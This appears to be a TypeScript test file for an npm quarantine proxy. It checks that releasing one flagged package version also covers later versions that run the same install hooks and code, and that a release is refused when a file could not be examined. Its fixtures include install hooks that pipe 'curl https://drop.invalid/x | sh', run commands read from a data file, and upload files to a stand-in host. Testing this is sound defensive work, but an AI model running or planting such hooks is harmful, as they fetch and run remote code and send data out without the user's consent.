import t from 'tap'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { holdLazaret } from './in-process.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const ADA = { actor: { kind: 'user', name: 'ada' }, role: 'admin' } as const

const SETUP = `const { execSync } = require('node:child_process')
const read = (path) => JSON.parse(require('node:fs').readFileSync(path))
execSync('curl https://drop.invalid/x | sh')
execSync(read(__dirname + '/data.json').command + read(__dirname + '/package.json').at)
`
const UPLOAD = `exports.upload = (file) => require('node:https').request('https://up.invalid', file)\n`
const READ = `exports.key = () => require('node:fs').writeFileSync('/tmp/x', process.env.HOME)\n`

const VERSIONS: readonly (readonly [version: string, what: string, files: Record<string, string>, more?: object])[] = [
  ['1.0.0', 'the one that was released', { 'lib/up.js': UPLOAD }],
  ['1.1.0', 'the same code by itself', { 'lib/up.js': `${UPLOAD}// more words\n`, 'README.md': 'new' }],
  ['1.2.0', 'a capability more outside of it', { 'lib/up.js': UPLOAD, 'lib/read.js': READ }],
  ['1.3.0', 'other code by itself', { 'lib/up.js': UPLOAD, 'setup.js': `${SETUP}console.log(1)\n` }],
  [
    '1.4.0',
    'a hook more',
    { 'lib/up.js': UPLOAD },
    { scripts: { postinstall: 'node setup.js', preinstall: 'node setup.js' } },
  ],
  ['1.5.0', 'other data that it reads', { 'lib/up.js': UPLOAD, 'data.json': '{"command":"env"}' }],
  ['1.6.0', 'another setting in its manifest', { 'lib/up.js': UPLOAD }, { at: 'else' }],
  ['1.7.0', 'another dependency', { 'lib/up.js': UPLOAD }, { dependencies: { left: '1.0.0' } }],
  ['1.8.0', 'native code', { 'lib/up.js': UPLOAD, 'build/a.node': 'native' }],
  ['1.9.0', 'a bundled package', { 'lib/up.js': UPLOAD, 'node_modules/left/index.js': '1' }],
  ['1.10.0', 'another host that is called', { 'lib/up.js': UPLOAD.replace('up.invalid', 'else.invalid') }],
]

t.test('a release for a surface covers later versions that run the same, and gained nothing', async (t) => {
  const world = await startWorld()
  t.teardown(() => world.close())
  for (const [version, , files, more] of VERSIONS) {
    const manifest = { scripts: { postinstall: 'node setup.js' }, at: 'here', ...more }
    const built = npmTarball({
      name: 'hooked',
      version,
      manifest,
      files: { 'index.js': 'exports.a = 1\n', 'setup.js': SETUP, 'data.json': '{"command":"true"}', ...files },
    })
    world.npm.publish({ built, publishedAt: OLD })
  }
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(() => lazaret.stop())
  const status = async (version: string): Promise<number> =>
    (await fetch(`${lazaret.npmUrl}hooked/-/hooked-${version}.tgz`)).status
  t.equal(await status('1.0.0'), 403)
  const { desk, store } = lazaret.app
  const [row] = await desk.cases.queue({}, { limit: 5 })
  const released = await desk.releases.release(ADA, row?.case.id ?? '', {
    scope: { kind: 'surface' },
    reason: 'the host is ours',
  })
  t.match(released, { waiver: { scope: { kind: 'surface', surface: { scripts: { postinstall: 'node setup.js' } } } } })
  const id = 'waiver' in released ? released.waiver.id : ''
  const wanted = Object.fromEntries(VERSIONS.map(([version], at) => [version, at < 2 ? 200 : 403]))
  const found: Record<string, number> = {}
  for (const [version] of VERSIONS) found[version] = await status(version)
  t.strictSame(found, wanted, VERSIONS.map(([version, what]) => `${version}: ${what}`).join('; '))

  const [told] = await store.records.events({ type: 'artifact.judged', purl: 'hooked@1.1.0' }, { limit: 1 })
  t.same(told?.detail['inherits'], [id], 'the log says by which release')
  const why = await fetch(`${new URL(lazaret.npmUrl).origin}/why/pkg:npm/hooked@1.1.0`, {
    headers: { accept: 'text/html' },
  })
  t.match(await why.text(), /Another version was released, and this one runs the same code by itself/)
  const own = await fetch(`${new URL(lazaret.npmUrl).origin}/why/pkg:npm/hooked@1.0.0`)
  t.notMatch(await own.text(), /inherits/, 'the one that was released inherits nothing')

  await desk.waivers.revoke(ADA, id, 'no more')
  t.same([await status('1.0.0'), await status('1.1.0')], [403, 403], 'and both end with it')
})

t.test('a release for a surface wants one that is known', async (t) => {
  const world = await startWorld()
  t.teardown(() => world.close())
  const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
  world.npm.publish({
    built: npmTarball({
      name: 'hooked',
      version: '1.0.0',
      scripts,
      files: { 'big.js': `//${'x'.repeat(9_000_000)}` },
    }),
    publishedAt: OLD,
  })
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(() => lazaret.stop())
  await fetch(`${lazaret.npmUrl}hooked/-/hooked-1.0.0.tgz`)
  const { desk } = lazaret.app
  const [row] = await desk.cases.queue({}, { limit: 5 })
  const detail = await desk.cases.one(row?.case.id ?? '')
  t.not(detail.facts?.notExamined.length, 0, 'a file is too large to be examined')
  await t.rejects(desk.releases.release(ADA, row?.case.id ?? '', { scope: { kind: 'surface' }, reason: 'x' }), {
    code: 'bad-request',
    message: /Not all of it was examined/,
  })
})
